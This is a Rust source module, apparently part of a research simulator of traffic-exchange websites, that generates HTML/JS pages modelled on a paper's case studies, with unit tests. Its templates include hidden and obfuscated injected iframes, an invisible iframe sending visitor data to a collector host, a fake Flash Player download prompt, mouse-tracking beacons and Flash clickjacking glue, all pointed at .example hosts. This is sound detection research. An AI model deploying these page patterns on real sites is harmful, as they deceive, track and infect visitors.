//! HTML/JS payload builders.
//!
//! Every page the synthetic web serves is assembled here. Malicious
//! payloads implement the behaviours documented in the paper's case
//! studies (§V) — hidden/invisible/JS-injected iframes, deceptive
//! downloads, rotating redirectors, Flash click-jacking — and the benign
//! pages include the two structures the paper found to trip scanners as
//! false positives (Google OAuth relay iframe, Google Analytics
//! bootstrap). All payloads are synthetic and inert by construction:
//! hosts live under reserved example TLDs inside the simulation only.

use crate::content::ContentCategory;
use crate::url::Url;
use slum_js::obfuscate::pack_layers;

/// Wraps body markup in a minimal page shell.
fn shell(title: &str, body: &str) -> String {
    format!(
        "<!DOCTYPE html><html><head><title>{title}</title></head><body>{body}</body></html>"
    )
}

/// A benign content page with an ad placeholder (the raison d'être of
/// traffic-exchange listings: harvesting ad impressions).
pub fn benign_page(site_name: &str, category: ContentCategory) -> String {
    let blurb = match category {
        ContentCategory::Business => "Great deals on electronics, payments made simple.",
        ContentCategory::Advertisement => "Sponsored offers selected for you.",
        ContentCategory::Entertainment => "Free streaming, games and more.",
        ContentCategory::InformationTechnology => "Cheap hosting and free web proxy service.",
        ContentCategory::Other => "Welcome to our home page.",
    };
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1><p>{blurb}</p>
<div class="ad-slot" data-network="adhitz"><a href="http://ads.adhitz-net.example/click?pub={site_name}">advertisement</a></div>
<p>Thanks for visiting {site_name}. Earn credits by surfing more pages.</p>"#
        ),
    )
}

/// §V-A category one: a barely visible 1×1 iframe used for cross-site
/// tracking, embedded statically in the HTML.
pub fn pixel_iframe_page(site_name: &str, iframe_target: &Url) -> String {
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1><p>Read our latest articles below.</p>
<iframe align="right" height="1" name="cwindow" scrolling="NO" src="{iframe_target}" style="border:8 solid #990000;" width="1"></iframe>
<p>More content coming soon.</p>"#
        ),
    )
}

/// §V-A category two: an invisible iframe (`allowtransparency`) that
/// uploads visitor information in its query string.
pub fn invisible_exfil_iframe_page(site_name: &str, exfil_host: &str, visitor_field: &str) -> String {
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1>
<iframe src="https://{exfil_host}/a.php?t=29&o=pix&f={visitor_field}&g=5" width="1" height="1" framespacing="0" frameborder="no" allowtransparency="true"></iframe>
<p>Exclusive member offers inside.</p>"#
        ),
    )
}

/// §V-A category three: an iframe injected dynamically via
/// `document.write`, optionally wrapped in `layers` of obfuscation.
pub fn js_injected_iframe_page(site_name: &str, iframe_target: &Url, obfuscation_layers: u32) -> String {
    let injector = format!(
        "document.write('<iframe allowtransparency=\"true\" scrolling=\"no\" frameborder=\"0\" border=\"0\" width=\"1\" height=\"1\" marginwidth=\"0\" marginheight=\"0\" src=\"{iframe_target}\"></iframe>');"
    );
    let script = pack_layers(&injector, obfuscation_layers);
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1><p>Loading personalized content...</p>
<script type="text/javascript">{script}</script>"#
        ),
    )
}

/// §V-B: the fake "install plug-in" bar that downloads a deceptively
/// named executable. `download_host` serves the executable; clicking the
/// prompt runs JS that navigates to the download URL.
pub fn deceptive_download_page(site_name: &str, download_host: &str) -> String {
    let js = format!(
        "window.location.href = 'http://{download_host}/c?x=3yqY7CC2iwwAHopOgD&downloadAs=Flash-Player.exe&fallback_url=http://{download_host}/download.url';"
    );
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1>
<div id="dm_topbar">
  <a href="data:text/html,%3Chtml%3E%3Cbody%3E%3Cstrong%3EBaixando...%3C/strong%3E%3C/body%3E%3C/html%3E"
     data-dm-title="Flash Player" data-dm-format="3" data-dm-filesize="1.1"
     target="_blank" data-dm="1" data-dm-filename="flashplayer.exe"
     data-dm-href="http://{download_host}/downloader?id=7b225f22" class="download_link">
    <div id="dm_topbar_block">
      <img id="dm_topbar_icon" src="http://cdn.{download_host}/images/topbar-icon.png" alt="Adobe Flash Player" width="36" height="36">
      <span id="dm_topbar_text">A p&aacute;gina necessita do plugin para continuar.</span>
      <span id="dm_topbar_link">Instalar plug-in</span>
    </div>
  </a>
</div>
<script type="text/javascript">
function dmInstall() {{ {js} }}
document.addEventListener('click', function(e) {{ dmInstall(); }});
</script>
<p>Assista epis&oacute;dios completos gratuitamente.</p>"#
        ),
    )
}

/// §IV-A1: user-behaviour fingerprinting — records mouse movements and
/// ships them to a collector.
pub fn fingerprinting_page(site_name: &str, collector_host: &str) -> String {
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1><p>Interactive catalogue.</p>
<script type="text/javascript">
var trail = [];
document.addEventListener('mousemove', function(e) {{
  trail.push('m');
  if (trail.length > 50) {{
    var beacon = document.createElement('iframe');
    beacon.src = 'http://{collector_host}/fp?d=' + trail.join('');
    beacon.width = 1; beacon.height = 1;
    document.body.appendChild(beacon);
    trail = [];
  }}
}});
document.addEventListener('keydown', function(e) {{ trail.push('k'); }});
</script>"#
        ),
    )
}

/// §V-D: page embedding an invisible full-page Flash movie whose click
/// handler opens pop-up ads. The object references an SWF descriptor
/// resource plus the obfuscated glue script.
pub fn flash_clickjack_page(site_name: &str, swf_url: &Url, glue_script_url: &Url) -> String {
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1><p>Play free games online.</p>
<object type="application/x-shockwave-flash" data="{swf_url}" width="100%" height="100%">
  <param name="wmode" value="transparent">
  <param name="allowscriptaccess" value="always">
</object>
<script type="text/javascript" src="{glue_script_url}"></script>"#
        ),
    )
}

/// The obfuscated JS glue that a Flash clickjack page loads
/// (`542_mobile3.js` in the paper): defines the pop-up callbacks the SWF
/// invokes through `ExternalInterface`.
pub fn flash_glue_script(popup_url: &Url, obfuscation_layers: u32) -> String {
    let plain = format!(
        "var AdFlash = {{ onClick: function() {{ window.open('{popup_url}'); }} }}; window.NqPnfu = function() {{ window.open('{popup_url}'); }};"
    );
    pack_layers(&plain, obfuscation_layers.max(1))
}

/// §V-C: a seemingly benign page whose external script lives on a
/// rotating-redirector host (`company.ooo` pattern).
pub fn rotating_redirector_page(site_name: &str, script_url: &Url) -> String {
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1><p>Daily news digest.</p>
<script type="text/javascript" src="{script_url}"></script>"#
        ),
    )
}

/// A page that participates in a redirect chain only via meta refresh —
/// used as the final hop shape in Figure 4.
pub fn meta_refresh_page(target: &Url) -> String {
    shell(
        "redirecting",
        &format!(r#"<meta http-equiv="refresh" content="0; url={target}"><p>Redirecting…</p>"#),
    )
}

/// A page hosted on a blacklisted domain: ordinary-looking content whose
/// maliciousness is a property of the host, plus an ad call into a
/// blacklisted ad network.
pub fn blacklisted_host_page(site_name: &str, ad_network_host: &str) -> String {
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1><p>Win amazing prizes. Click below!</p>
<script type="text/javascript" src="http://{ad_network_host}/serve.js?zone=7"></script>
<div class="banner"><a href="http://{ad_network_host}/go?offer=lucky">CLAIM NOW</a></div>"#
        ),
    )
}

/// §V-E false positive 1: the Google OAuth `postmessageRelay` iframe —
/// 1×1, positioned off-screen, structurally identical to a hidden-iframe
/// injection but benign.
pub fn google_oauth_relay_page(site_name: &str) -> String {
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1><p>Sign in with your account to comment.</p>
<iframe name="oauth2relay503410543" id="oauth2relay503410543"
  src="https://accounts.google-auth.example/o/oauth2/postmessageRelay?parent=http%3A%2F%2F{site_name}#rpctoken=1510319259&forcesecure=1"
  tabindex="-1" style="width: 1px; height: 1px; position: absolute; top: -100px;"></iframe>"#
        ),
    )
}

/// §V-E false positive 2: the Google Analytics bootstrap snippet that
/// scanners mislabeled as `TrojanClicker:JS/Faceliker`.
pub fn google_analytics_page(site_name: &str) -> String {
    shell(
        site_name,
        &format!(
            r#"<h1>{site_name}</h1><p>Community recipes, updated weekly.</p>
<script type="text/javascript">
(function(i, s, o, g, r) {{
  i['GoogleAnalyticsObject'] = r;
  i[r] = i[r] || function() {{}};
  i[r].l = 1;
}})(window, document, 'script', '//analytics.google-analytics.example/analytics.js', 'ga');
</script>"#
        ),
    )
}

/// A traffic-exchange homepage (served when the exchange self-refers).
pub fn exchange_home_page(exchange_name: &str) -> String {
    shell(
        exchange_name,
        &format!(
            r#"<h1>{exchange_name}</h1><p>Earn credits by viewing member sites. Make easy money from home!</p>
<div class="surfbar">Next site in <span id="timer">30</span> seconds…</div>
<p>One account per IP address. Parallel sessions will suspend your account.</p>"#
        ),
    )
}

/// A stand-in for a genuinely popular site (Google, Facebook, YouTube):
/// exchanges point members at these to inflate bogus content views.
pub fn popular_site_page(name: &str) -> String {
    shell(name, &format!("<h1>{name}</h1><p>The page you know.</p>"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use slum_js::obfuscate::is_likely_obfuscated;

    fn u(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    #[test]
    fn benign_page_has_ad_slot_and_no_iframe() {
        let html = benign_page("shopwave.example.com", ContentCategory::Business);
        assert!(html.contains("ad-slot"));
        assert!(!html.contains("<iframe"));
    }

    #[test]
    fn pixel_iframe_page_embeds_target() {
        let html = pixel_iframe_page("blog", &u("http://tracker.example/t"));
        assert!(html.contains(r#"height="1""#));
        assert!(html.contains(r#"width="1""#));
        assert!(html.contains("http://tracker.example/t"));
    }

    #[test]
    fn invisible_exfil_iframe_carries_query_exfil() {
        let html = invisible_exfil_iframe_page("promo", "acces.direction-x.example", "id_supp_99");
        assert!(html.contains("allowtransparency=\"true\""));
        assert!(html.contains("f=id_supp_99"));
    }

    #[test]
    fn js_injected_page_is_obfuscated_when_asked() {
        let plain = js_injected_iframe_page("s", &u("http://x.example/"), 0);
        assert!(plain.contains("document.write"));
        let packed = js_injected_iframe_page("s", &u("http://x.example/"), 2);
        assert!(!packed.contains("document.write('<iframe"));
        // The inline script body should look obfuscated to the heuristic.
        let script_start = packed.find("<script").unwrap();
        let body = &packed[script_start..];
        assert!(is_likely_obfuscated(body));
    }

    #[test]
    fn deceptive_download_page_shape() {
        let html = deceptive_download_page("anime-flix", "yupfiles-cdn.example");
        assert!(html.contains("data:text/html"));
        assert!(html.contains("data-dm-title=\"Flash Player\""));
        assert!(html.contains("Flash-Player.exe"));
    }

    #[test]
    fn fingerprinting_page_registers_mousemove() {
        let html = fingerprinting_page("catalog", "collector.example");
        assert!(html.contains("mousemove"));
        assert!(html.contains("collector.example/fp"));
    }

    #[test]
    fn flash_glue_always_packed() {
        let glue = flash_glue_script(&u("http://pop.example/ad"), 0);
        assert!(glue.starts_with("eval("));
    }

    #[test]
    fn false_positive_pages_look_suspicious() {
        let oauth = google_oauth_relay_page("apkmods.example.com");
        assert!(oauth.contains("width: 1px"));
        assert!(oauth.contains("top: -100px"));
        let ga = google_analytics_page("recipes.example.com");
        assert!(ga.contains("GoogleAnalyticsObject"));
    }

    #[test]
    fn meta_refresh_page_has_refresh_directive() {
        let html = meta_refresh_page(&u("http://next.example/hop"));
        assert!(html.contains("http-equiv=\"refresh\""));
        assert!(html.contains("url=http://next.example/hop"));
    }
}
